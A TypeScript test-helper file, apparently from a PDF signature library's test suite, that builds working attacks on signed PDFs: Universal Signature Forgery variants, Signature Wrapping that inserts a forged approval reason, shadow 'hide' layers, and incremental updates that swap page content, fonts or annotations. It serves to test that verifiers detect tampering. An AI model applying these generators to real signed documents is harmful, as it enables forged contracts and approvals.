// Attacks on signed PDFs (signature-security.md §1), each built for real: incremental updates written with
// kyso's own IncrementalUpdate (what an attacker with any PDF library would append), or byte surgery on the
// signed file (USF, SWA). Every generator takes a validly signed file and returns the attacked bytes with a
// one-line description. Plus helpers that make the files attacks need: a PDF with a hidden optional-content
// layer (shadow "hide"), a DocMDP certification signature, form filling.
import { createHash } from 'node:crypto';
import * as asn1js from 'asn1js';
import * as pkijs from 'pkijs';
import { N, PdfDict, PdfFixedInt, PdfMarked, PdfName, PdfObject, PdfRef, PdfStream, PdfString } from '../../src/pdf/objects.ts';
import { PdfReader } from '../../src/pdf/reader.ts';
import { ByteWriter, serializeToBuffer } from '../../src/pdf/serialize.ts';
import { signCadesDetached } from '../../src/pki/cms/cades-detached.ts';
import type { Signer } from '../../src/pki/signer.ts';
import { nodeDigestName } from '../../src/pki/signer.ts';
import { IncrementalUpdate } from '../../src/signing/pdf/incremental-writer.ts';
import { formatPdfDate } from '../../src/pdf/dates.ts';
import { estimateReservedBytes, invisibleAppearance } from '../../src/signing/pdf/pades.ts';
import { addSignatureField } from '../../src/signing/pdf/signature-field.ts';

export interface Attack {
  bytes: Buffer;
  description: string;
}

// ---------------------------------------------------------------------------------------------------------
// Helpers

interface RawSig {
  /** Offset of `/ByteRange` and of the byte after its closing bracket. */
  keyStart: number;
  arrayStart: number;
  arrayEnd: number;
  byteRange: [number, number, number, number];
}

/** The signatures of a file by byte search (independent of kyso's reader), in file order. */
function rawSignatures(pdf: Buffer): RawSig[] {
  const text = pdf.toString('latin1');
  const re = /\/ByteRange\s*(\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\])/g;
  const out: RawSig[] = [];
  for (let m; (m = re.exec(text)); ) {
    const arrayStart = m.index + m[0].length - m[1].length;
    out.push({ keyStart: m.index, arrayStart, arrayEnd: m.index + m[0].length, byteRange: m.slice(2, 6).map(Number) as RawSig['byteRange'] });
  }
  if (!out.length) throw new Error('no signature in the file');
  return out;
}

const lastSignature = (pdf: Buffer): RawSig => rawSignatures(pdf).at(-1)!;

/** Appends the update to a copy of the file. */
function append(pdf: Buffer, update: IncrementalUpdate): Buffer {
  return Buffer.concat([pdf, update.serialize().bytes]);
}

function stream(dict: Record<string, PdfObject>, content: string): PdfStream {
  return new PdfStream(new PdfDict(dict), Buffer.from(content, 'latin1'));
}

/** A page's resources, following inheritance (§7.7.3.4). */
function pageResources(reader: PdfReader, page: PdfDict): { holder: 'page' | 'ref' | 'inherited'; ref?: PdfRef; dict: PdfDict } {
  const own = page.get('Resources');
  if (own instanceof PdfRef) return { holder: 'ref', ref: own, dict: reader.dict(own) ?? new PdfDict() };
  if (own instanceof PdfDict) return { holder: 'page', dict: own };
  let node = reader.dict(page.get('Parent'));
  for (let i = 0; node && i < 32; i++) {
    const r = reader.dict(node.get('Resources'));
    if (r) return { holder: 'inherited', dict: r };
    node = reader.dict(node.get('Parent'));
  }
  return { holder: 'inherited', dict: new PdfDict() };
}

/** Writes new resources for page 1: into the indirect resources object, or into the page dictionary. */
function setPageResources(update: IncrementalUpdate, pageRef: PdfRef, page: PdfDict, res: ReturnType<typeof pageResources>, dict: PdfDict): void {
  if (res.holder === 'ref') update.set(res.ref!, dict);
  else update.set(pageRef, (update.current(pageRef) as PdfDict).clone().set('Resources', dict));
}

/** Appends `annot` to the page's /Annots (indirect array or direct). */
function appendAnnot(update: IncrementalUpdate, pageRef: PdfRef, annot: PdfRef): void {
  const page = (update.current(pageRef) as PdfDict).clone();
  const annots = page.get('Annots');
  if (annots instanceof PdfRef) {
    const arr = update.current(annots);
    update.set(annots, [...(Array.isArray(arr) ? arr : []), annot]);
  } else {
    page.set('Annots', [...(Array.isArray(annots) ? annots : []), annot]);
    update.set(pageRef, page);
  }
}

// ---------------------------------------------------------------------------------------------------------
// Byte surgery on the signed ranges (detected by the digest / structure checks, not by difference analysis)

/** Flips one bit inside the first signed range (in the binary header comment, so the file still parses). */
export function flipByteInSignedRange(signed: Buffer): Attack {
  const out = Buffer.from(signed);
  const [, b] = lastSignature(out).byteRange;
  const nl = out.indexOf(0x0a);
  let at = nl >= 0 && out[nl + 1] === 0x25 /* % */ && out[nl + 2] >= 0x80 ? nl + 2 : Math.floor(b / 2);
  if (at >= b) at = Math.floor(b / 2);
  out[at] ^= 0x01;
  return { bytes: out, description: `one bit flipped at byte ${at}, inside the first signed range [0, ${b})` };
}

/** Cuts the end of the file: the last signature's second range now reaches past the end. */
export function truncateTail(signed: Buffer, bytes = 32): Attack {
  const n = Math.min(bytes, signed.length - 1);
  return { bytes: Buffer.from(signed.subarray(0, signed.length - n)), description: `last ${n} bytes cut off (the signed range ends beyond the file)` };
}

/** Overwrites the last signature's /Contents hex with zeros, in place (Universal Signature Forgery). */
export function zeroContents(signed: Buffer): Attack {
  const out = Buffer.from(signed);
  const [, b, c] = lastSignature(out).byteRange;
  out.fill(0x30, b + 1, c - 1);
  return { bytes: out, description: `/Contents of the last signature overwritten with zeros (bytes ${b + 1}..${c - 1})` };
}

/** Replaces the last signature's CMS with a SignedData without SignerInfos, same length, in place (USF). */
export function cmsWithoutSigner(signed: Buffer): Attack {
  const out = Buffer.from(signed);
  const [, b, c] = lastSignature(out).byteRange;
  const der = Buffer.from(out.subarray(b + 1, c - 1).toString('latin1'), 'hex');
  const parsed = asn1js.fromBER(new Uint8Array(der).buffer);
  const ci = new pkijs.ContentInfo({ schema: parsed.result });
  const sd = new pkijs.SignedData({ schema: ci.content });
  sd.signerInfos = [];
  const empty = new pkijs.ContentInfo({ contentType: ci.contentType, content: sd.toSchema(true) });
  const hex = Buffer.from(empty.toSchema().toBER()).toString('hex');
  if (hex.length > c - b - 2) throw new Error('the empty SignedData does not fit');
  out.write(hex.padEnd(c - b - 2, '0'), b + 1, 'latin1');
  return { bytes: out, description: 'the last signature\'s CMS replaced by a SignedData with certificates but zero SignerInfos (same length)' };
}

/** Blanks the last signature's /ByteRange entry (key and value), in place (USF). */
export function byteRangeMissing(signed: Buffer): Attack {
  const out = Buffer.from(signed);
  const s = lastSignature(out);
  out.fill(0x20, s.keyStart, s.arrayEnd);
  return { bytes: out, description: '/ByteRange of the last signature removed (overwritten with spaces)' };
}

/** Sets the last signature's /ByteRange to [0 0 0 0], in place (USF). */
export function byteRangeZero(signed: Buffer): Attack {
  const out = Buffer.from(signed);
  const s = lastSignature(out);
  out.write('[0 0 0 0]'.padEnd(s.arrayEnd - s.arrayStart, ' '), s.arrayStart, 'latin1');
  return { bytes: out, description: '/ByteRange of the last signature set to [0 0 0 0]' };
}

/**
 * Signature Wrapping: attacker bytes are inserted right after the last signature's /Contents, inside the gap,
 * and a second /ByteRange there (a repeated key: the last one wins in most parsers) moves range 2 past them.
 * The two ranges still hold exactly the originally signed bytes, so a verifier that only recomputes the CMS
 * digest over /ByteRange accepts it; the gap is no longer just the /Contents string. A repair section (classic
 * xref listing the shifted objects of the last revision) is appended so that the file still opens.
 */
export function signatureWrapping(signed: Buffer, payload = '/Reason (Approved: amount 9,000,000,000 VND)'): Attack {
  const [a, b, c, d] = lastSignature(signed).byteRange;
  let inserted = '';
  for (let i = 0; i < 4; i++) inserted = ` /ByteRange [${a} ${b} ${c + inserted.length} ${d}] ${payload} `;
  const c2 = c + inserted.length;
  if (!inserted.includes(` ${c2} `)) throw new Error('ByteRange width did not settle');
  let body = Buffer.concat([signed.subarray(0, c), Buffer.from(inserted, 'latin1'), signed.subarray(c)]);
  const reader = PdfReader.open(signed);
  const shift = (o: number): number => (o >= c ? o + inserted.length : o);
  const last = reader.xref.sections[0];
  let xref = 'xref\n';
  for (const [num, e] of [...last.entries].sort((x, y) => x[0] - y[0])) {
    if (e.type === 'offset') xref += `${num} 1\n${String(shift(e.offset)).padStart(10, '0')} ${String(e.gen).padStart(5, '0')} n\r\n`;
  }
  const t = reader.trailer;
  const keep = ['Root', 'Info', 'ID'].filter((k) => t.has(k)).map((k) => `/${k} ${serializeToBuffer(t.get(k)!).toString('latin1')}`).join(' ');
  if (body[body.length - 1] !== 0x0a) body = Buffer.concat([body, Buffer.from('\n')]);
  xref += `trailer\n<< /Size ${reader.size} ${keep} /Prev ${shift(last.offset)} >>\nstartxref\n${body.length}\n%%EOF\n`;
  const bytes = Buffer.concat([body, Buffer.from(xref, 'latin1')]);
  return { bytes, description: `${inserted.length} attacker bytes inserted in the gap after /Contents; a repeated /ByteRange [${a} ${b} ${c2} ${d}] points range 2 past them; a repair xref section keeps the file readable` };
}

/** Appends bytes after the final %%EOF (no new revision). */
export function trailingGarbage(signed: Buffer): Attack {
  const junk = Buffer.from('\n% appended after signing\n9999 0 obj\n<< /Attacker (data) >>\nendobj\n', 'latin1');
  return { bytes: Buffer.concat([signed, junk]), description: `${junk.length} bytes appended after the last %%EOF` };
}

// ---------------------------------------------------------------------------------------------------------
// Incremental updates (detected by difference analysis)

/** Page 1 gets a new /Contents stream (a red box instead of the signed text). */
export function replacePageContent(signed: Buffer): Attack {
  const reader = PdfReader.open(signed);
  const page = reader.getPage(0);
  const update = new IncrementalUpdate(reader);
  const content = update.add(stream({}, 'q 1 0 0 rg 72 72 200 100 re f Q\n'));
  update.set(page.ref, page.dict.clone().set('Contents', content));
  return { bytes: append(signed, update), description: `page 1 (object ${page.ref.key}) /Contents replaced by new stream ${content.key}` };
}

/** A new page is appended to page 1's /Pages node (/Kids and /Count of every ancestor updated). */
export function addPage(signed: Buffer): Attack {
  const reader = PdfReader.open(signed);
  const first = reader.getPage(0);
  const parent = first.dict.get('Parent');
  if (!(parent instanceof PdfRef)) throw new Error('page 1 has no /Parent');
  const update = new IncrementalUpdate(reader);
  const content = update.add(stream({}, 'q 0 0 1 rg 72 600 300 100 re f Q\n'));
  const page = update.add(new PdfDict({ Type: N('Page'), Parent: parent, MediaBox: [...first.mediaBox], Resources: new PdfDict(), Contents: content }));
  let node: PdfObject | undefined = parent;
  for (let i = 0; node instanceof PdfRef && i < 32; i++) {
    const d = (update.current(node) as PdfDict).clone();
    if (node === parent) d.set('Kids', [...((reader.resolve(d.get('Kids')) as PdfObject[]) ?? []), page]);
    d.set('Count', ((reader.resolve(d.get('Count')) as number) ?? 0) + 1);
    update.set(node, d);
    node = d.get('Parent');
  }
  return { bytes: append(signed, update), description: `page ${page.key} appended to the page tree (/Kids and /Count of ${parent.key})` };
}

/**
 * A font of page 1 redefined: by default the font object itself is rewritten under the same number (the page
 * dictionary stays byte-identical); with `newObject` a new font object is added and the resource name points
 * at it instead.
 */
export function redefineFont(signed: Buffer, opts: { newObject?: boolean } = {}): Attack {
  const reader = PdfReader.open(signed);
  const page = reader.getPage(0);
  const res = pageResources(reader, page.dict);
  const fonts = reader.dict(res.dict.get('Font'));
  const first = fonts ? [...fonts.map.entries()][0] : undefined;
  if (!first) throw new Error('page 1 has no fonts');
  const [name, ref] = first;
  const update = new IncrementalUpdate(reader);
  const font = new PdfDict({ Type: N('Font'), Subtype: N('Type1'), BaseFont: N('Courier'), Encoding: N('WinAnsiEncoding') });
  if (!opts.newObject && ref instanceof PdfRef) {
    update.set(ref, font);
    return { bytes: append(signed, update), description: `font /${name} of page 1 (object ${ref.key}) rewritten in place as Courier` };
  }
  const fontRef = update.add(font);
  const newFonts = fonts!.clone().set(name, fontRef);
  const fontsEntry = res.dict.get('Font');
  if (fontsEntry instanceof PdfRef) update.set(fontsEntry, newFonts);
  else setPageResources(update, page.ref, page.dict, res, res.dict.clone().set('Font', newFonts));
  return { bytes: append(signed, update), description: `font /${name} of page 1 re-pointed to a new font object ${fontRef.key} (Courier)` };
}

/**
 * An XObject rewritten in place: the first XObject of page 1's resources, or when the page has none, the
 * appearance stream of the first signature's widget (shadow "replace" through an appearance stream).
 */
export function replaceXObject(signed: Buffer): Attack {
  const reader = PdfReader.open(signed);
  const page = reader.getPage(0);
  const xobjects = reader.dict(pageResources(reader, page.dict).dict.get('XObject'));
  let target: PdfRef | undefined;
  let what = '';
  for (const [name, v] of xobjects?.map ?? []) {
    if (v instanceof PdfRef) {
      target = v;
      what = `XObject /${name} of page 1`;
      break;
    }
  }
  if (!target) {
    const annots = reader.resolve(page.dict.get('Annots'));
    for (const a of Array.isArray(annots) ? annots : []) {
      const w = reader.dict(a);
      const n = reader.dict(w?.get('AP'))?.get('N');
      if (w?.name('Subtype') === 'Widget' && n instanceof PdfRef) {
        target = n;
        what = `appearance stream of the signature widget ${a instanceof PdfRef ? a.key : ''}`.trim();
        break;
      }
    }
  }
  if (!target) throw new Error('no XObject on page 1');
  const old = reader.dict(target);
  const bbox = old?.get('BBox') ?? [0, 0, 100, 100];
  const update = new IncrementalUpdate(reader);
  update.set(target, stream({ Type: N('XObject'), Subtype: N('Form'), BBox: bbox }, 'q 0 0.6 0 rg 0 0 1000 1000 re f Q\n'));
  return { bytes: append(signed, update), description: `${what} (object ${target.key}) rewritten in place with other content` };
}

/**
 * Prepares a file for the shadow "hide" attack (before signing): page 1 gets extra content inside an optional
 * content group that is OFF, so the signer does not see it. The default configuration /D is its own object.
 */
export function addOptionalContentLayer(pdf: Buffer, text = 'q 0.8 0 0 rg 60 400 400 60 re f Q'): Buffer {
  const reader = PdfReader.open(pdf);
  const page = reader.getPage(0);
  const update = new IncrementalUpdate(reader);
  const ocg = update.add(new PdfDict({ Type: N('OCG'), Name: PdfString.text('Hidden layer') }));
  const config = update.add(new PdfDict({ Name: PdfString.text('Default'), Order: [ocg], ON: [], OFF: [ocg] }));
  const catalog = reader.catalog.clone().set('OCProperties', new PdfDict({ OCGs: [ocg], D: config }));
  update.set(reader.catalogRef, catalog);
  const layer = update.add(stream({}, `/OC /MC0 BDC ${text} EMC\n`));
  const res = pageResources(reader, page.dict);
  const props = (reader.dict(res.dict.get('Properties'))?.clone() ?? new PdfDict()).set('MC0', ocg);
  const newRes = res.dict.clone().set('Properties', props);
  const contents = page.dict.get('Contents');
  const list = Array.isArray(contents) ? contents : contents instanceof PdfRef && Array.isArray(reader.resolve(contents)) ? (reader.resolve(contents) as PdfObject[]) : contents ? [contents] : [];
  const newPage = page.dict.clone().set('Contents', [...list, layer]);
  if (res.holder === 'ref') update.set(res.ref!, newRes);
  else newPage.set('Resources', newRes);
  update.set(page.ref, newPage);
  return append(pdf, update);
}

/** Flips the visibility of the file's optional content groups (/ON and /OFF swapped in /D). */
export function ocgVisibilityFlip(signed: Buffer): Attack {
  const reader = PdfReader.open(signed);
  const ocpEntry = reader.catalog.get('OCProperties');
  const ocp = reader.dict(ocpEntry);
  const dEntry = ocp?.get('D');
  const d = reader.dict(dEntry);
  if (!ocp || !d) throw new Error('the file has no optional content (use addOptionalContentLayer before signing)');
  const flipped = d.clone().set('ON', d.get('OFF') ?? []).set('OFF', d.get('ON') ?? []);
  const update = new IncrementalUpdate(reader);
  if (dEntry instanceof PdfRef) update.set(dEntry, flipped);
  else if (ocpEntry instanceof PdfRef) update.set(ocpEntry, ocp.clone().set('D', flipped));
  else update.set(reader.catalogRef, reader.catalog.clone().set('OCProperties', ocp.clone().set('D', flipped)));
  const where = dEntry instanceof PdfRef ? `configuration object ${dEntry.key}` : 'the /OCProperties dictionary';
  return { bytes: append(signed, update), description: `optional content /ON and /OFF swapped in ${where}: the hidden layer becomes visible` };
}

/** An opaque annotation (Square, or FreeText with text) covering page 1, appended to its /Annots. */
export function addAnnotationOverPage(signed: Buffer, opts: { subtype?: 'Square' | 'FreeText' } = {}): Attack {
  const reader = PdfReader.open(signed);
  const page = reader.getPage(0);
  const [x1, y1, x2, y2] = page.cropBox;
  const rect = [x1 + 20, y1 + 20, x2 - 20, y2 - 20];
  const w = rect[2] - rect[0];
  const h = rect[3] - rect[1];
  const subtype = opts.subtype ?? 'Square';
  const update = new IncrementalUpdate(reader);
  const font = update.add(new PdfDict({ Type: N('Font'), Subtype: N('Type1'), BaseFont: N('Helvetica'), Encoding: N('WinAnsiEncoding') }));
  const ap = update.add(
    stream(
      { Type: N('XObject'), Subtype: N('Form'), BBox: [0, 0, w, h], Resources: new PdfDict({ Font: new PdfDict({ Helv: font }) }) },
      `q 1 g 0 0 ${w} ${h} re f 0 g BT /Helv 36 Tf 40 ${h / 2} Td (VOID) Tj ET Q\n`,
    ),
  );
  const annot = new PdfDict({ Type: N('Annot'), Subtype: N(subtype), Rect: rect, P: page.ref, F: 4, AP: new PdfDict({ N: ap }) });
  if (subtype === 'Square') annot.set('IC', [1, 1, 1]);
  else annot.set('DA', PdfString.latin1('/Helv 36 Tf 0 g')).set('Contents', PdfString.text('VOID'));
  const ref = update.add(annot);
  appendAnnot(update, page.ref, ref);
  return { bytes: append(signed, update), description: `opaque /${subtype} annotation ${ref.key} covering page 1` };
}

// ---------------------------------------------------------------------------------------------------------
// Further structural manipulations (hand-built updates)

/** Writes a classic xref update by hand: the given objects (text bodies) and free entries. */
export function rawUpdate(pdf: Buffer, objects: Array<{ num: number; gen?: number; body: string }>, free: Array<{ num: number; gen: number }> = [], trailerExtra = ''): Buffer {
  const reader = PdfReader.open(pdf);
  const parts: Buffer[] = [Buffer.from(pdf[pdf.length - 1] === 0x0a ? '' : '\n', 'latin1')];
  let offset = pdf.length + parts[0].length;
  const entries = new Map<number, string>();
  for (const o of objects) {
    const chunk = Buffer.from(`${o.num} ${o.gen ?? 0} obj\n${o.body}\nendobj\n`, 'latin1');
    entries.set(o.num, `${String(offset).padStart(10, '0')} ${String(o.gen ?? 0).padStart(5, '0')} n\r\n`);
    parts.push(chunk);
    offset += chunk.length;
  }
  for (const f of free) entries.set(f.num, `0000000000 ${String(f.gen).padStart(5, '0')} f\r\n`);
  const nums = [...entries.keys()].sort((x, y) => x - y);
  let xref = 'xref\n';
  for (const n of nums) xref += `${n} 1\n${entries.get(n)}`;
  const root = reader.trailer.get('Root') as PdfRef;
  const size = Math.max(reader.size, ...nums.map((n) => n + 1));
  xref += `trailer\n<< /Size ${size} /Root ${root.key} R /Prev ${reader.xref.startxref}${trailerExtra} >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat([pdf, ...parts]);
}

/** Frees (deletes) an object of the signed revision through a free xref entry. */
export function freeObject(signed: Buffer, num: number): Attack {
  const gen = (PdfReader.open(signed).entry(num) as { gen?: number } | undefined)?.gen ?? 0;
  return { bytes: rawUpdate(signed, [], [{ num, gen: gen + 1 }]), description: `object ${num} freed by a free xref entry` };
}

/** Rewrites an object unchanged but under generation + 1. */
export function bumpGeneration(signed: Buffer, num: number): Attack {
  const reader = PdfReader.open(signed);
  const update = new IncrementalUpdate(reader);
  update.set(new PdfRef(num, ((reader.entry(num) as { gen?: number } | undefined)?.gen ?? 0) + 1), reader.getObject(num));
  return { bytes: append(signed, update), description: `object ${num} rewritten with generation + 1` };
}

/** Points the trailer at a new catalog object (a copy of the old one). */
export function replaceRoot(signed: Buffer): Attack {
  const reader = PdfReader.open(signed);
  const update = new IncrementalUpdate(reader);
  const catalog = update.add(reader.catalog.clone());
  const text = update.serialize().bytes.toString('latin1');
  // The trailer (or xref stream dictionary) is the last thing written: re-point its /Root.
  const at = text.lastIndexOf(`/Root ${reader.catalogRef.key} R`);
  const tail = text.slice(0, at) + `/Root ${catalog.key} R` + text.slice(at + `/Root ${reader.catalogRef.key} R`.length);
  return { bytes: Buffer.concat([signed, Buffer.from(tail, 'latin1')]), description: `trailer /Root re-pointed to a copy of the catalog (${catalog.key})` };
}

/**
 * Writes an update whose objects sit in a new object stream, indexed by an xref stream (what PDF 1.5+ writers
 * do). With `streamNum` the object stream reuses that number (e.g. an object stream of the signed revision);
 * with `listMembers: false` the xref stream lists only the container, so the members keep their old entries
 * (compressed in `streamNum`) and silently read from the new stream.
 */
export function objectStreamUpdate(pdf: Buffer, objects: Array<{ num: number; obj: PdfObject }>, opts: { streamNum?: number; listMembers?: boolean } = {}): Buffer {
  const reader = PdfReader.open(pdf);
  const streamNum = opts.streamNum ?? Math.max(reader.size, ...objects.map((o) => o.num + 1));
  const xrefNum = Math.max(reader.size, streamNum + 1, ...objects.map((o) => o.num + 1));
  let body = '';
  const offsets: number[] = [];
  for (const o of objects) {
    offsets.push(body.length);
    body += serializeToBuffer(o.obj).toString('latin1') + '\n';
  }
  const header = objects.map((o, i) => `${o.num} ${offsets[i]}`).join(' ') + '\n';
  const objStm = new PdfStream(new PdfDict({ Type: N('ObjStm'), N: objects.length, First: header.length }), Buffer.from(header + body, 'latin1'));
  const w = new ByteWriter(pdf.length);
  if (pdf[pdf.length - 1] !== 0x0a) w.text('\n');
  const rows = new Map<number, [number, number, number]>();
  rows.set(streamNum, [1, w.indirect(streamNum, 0, objStm), 0]);
  if (opts.listMembers !== false) objects.forEach((o, i) => rows.set(o.num, [2, streamNum, i]));
  const xrefOffset = w.offset;
  rows.set(xrefNum, [1, xrefOffset, 0]);
  const nums = [...rows.keys()].sort((x, y) => x - y);
  const data = Buffer.alloc(nums.length * 7);
  nums.forEach((n, i) => {
    const [t, f2, f3] = rows.get(n)!;
    data[i * 7] = t;
    data.writeUInt32BE(f2, i * 7 + 1);
    data.writeUInt16BE(f3, i * 7 + 5);
  });
  const trailer = new PdfDict({ Type: N('XRef'), Size: xrefNum + 1, Index: nums.flatMap((n) => [n, 1]), W: [1, 4, 2], Root: reader.catalogRef, Prev: reader.xref.startxref });
  const id = reader.trailer.get('ID');
  if (id) trailer.set('ID', id);
  w.indirect(xrefNum, 0, new PdfStream(trailer, data));
  w.text(`startxref\n${xrefOffset}\n%%EOF\n`);
  return Buffer.concat([pdf, w.toBuffer()]);
}

// ---------------------------------------------------------------------------------------------------------
// Legitimate later changes

/** Fills a text field: new /V on the field and a new appearance stream on its widget. */
export function fillTextField(pdf: Buffer, value: string): Buffer {
  const reader = PdfReader.open(pdf);
  const acro = reader.dict(reader.catalog.get('AcroForm'));
  const stack: PdfObject[] = [...((reader.resolve(acro?.get('Fields')) as PdfObject[]) ?? [])];
  while (stack.length) {
    const ref = stack.shift()!;
    const d = reader.dict(ref);
    if (!d || !(ref instanceof PdfRef)) continue;
    const kids = reader.resolve(d.get('Kids'));
    if (d.name('FT') === 'Tx') {
      const widgetRef = Array.isArray(kids) && kids[0] instanceof PdfRef ? kids[0] : ref;
      const widget = reader.dict(widgetRef)!;
      const [x1, y1, x2, y2] = reader.rect(widget.get('Rect')) ?? [0, 0, 100, 20];
      const update = new IncrementalUpdate(reader);
      const font = update.add(new PdfDict({ Type: N('Font'), Subtype: N('Type1'), BaseFont: N('Helvetica'), Encoding: N('WinAnsiEncoding') }));
      const ap = update.add(
        stream(
          { Type: N('XObject'), Subtype: N('Form'), BBox: [0, 0, x2 - x1, y2 - y1], Resources: new PdfDict({ Font: new PdfDict({ Helv: font }) }) },
          `/Tx BMC q BT /Helv 12 Tf 2 6 Td (${value.replace(/[()\\]/g, '\\$&')}) Tj ET Q EMC\n`,
        ),
      );
      update.set(ref, d.clone().set('V', PdfString.text(value)));
      const w = widgetRef === ref ? (update.current(ref) as PdfDict).clone() : widget.clone();
      update.set(widgetRef, w.set('AP', new PdfDict({ N: ap })));
      return append(pdf, update);
    }
    if (Array.isArray(kids)) stack.push(...kids);
  }
  throw new Error('no text field');
}

/**
 * A certification signature (ISO 32000-1 §12.8.2.2): DocMDP transform with permissions `p` in the signature
 * dictionary's /Reference and catalog /Perms /DocMDP pointing at it. Invisible, B-B.
 */
export async function certifyPdf(pdf: Buffer, signer: Signer, p: 1 | 2 | 3): Promise<Buffer> {
  const reader = PdfReader.open(pdf);
  const update = new IncrementalUpdate(reader);
  const page = reader.getPage(0);
  const reserved = estimateReservedBytes(signer, 'B-B');
  const sig = new PdfDict();
  sig.set('Type', N('Sig'));
  sig.set('Filter', N('Adobe.PPKLite'));
  sig.set('SubFilter', N('ETSI.CAdES.detached'));
  sig.set('ByteRange', new PdfMarked('ByteRange', [0, new PdfFixedInt(0, 10), new PdfFixedInt(0, 10), new PdfFixedInt(0, 10)]));
  sig.set('Contents', new PdfMarked('Contents', new PdfString(new Uint8Array(reserved), true)));
  sig.set('M', PdfString.latin1(formatPdfDate(new Date())));
  sig.set(
    'Reference',
    [new PdfDict({ Type: N('SigRef'), TransformMethod: N('DocMDP'), TransformParams: new PdfDict({ Type: N('TransformParams'), P: p, V: PdfName.of('1.2') }) })],
  );
  const sigRef = update.add(sig);
  const { rect, ap } = invisibleAppearance(update, page, reader);
  addSignatureField(update, { page, name: 'Certification', signature: sigRef, rect, appearance: ap });
  update.set(reader.catalogRef, (update.current(reader.catalogRef) as PdfDict).clone().set('Perms', new PdfDict({ DocMDP: sigRef })));
  const { bytes: tail, marks } = update.serialize();
  const contents = marks.get('Contents')!;
  const br = marks.get('ByteRange')!;
  const total = pdf.length + tail.length;
  const inner = [0, contents.start, contents.end, total - contents.end].join(' ');
  tail.write(`[${inner.padEnd(br.end - br.start - 2, ' ')}]`, br.start - pdf.length, 'latin1');
  const h = createHash(nodeDigestName('SHA-256'));
  h.update(pdf);
  h.update(tail.subarray(0, contents.start - pdf.length));
  h.update(tail.subarray(contents.end - pdf.length));
  const cms = await signCadesDetached({ signer, digest: 'SHA-256', contentDigest: h.digest() });
  tail.write(Buffer.from(cms).toString('hex'), contents.start + 1 - pdf.length, 'latin1');
  return Buffer.concat([pdf, tail]);
}
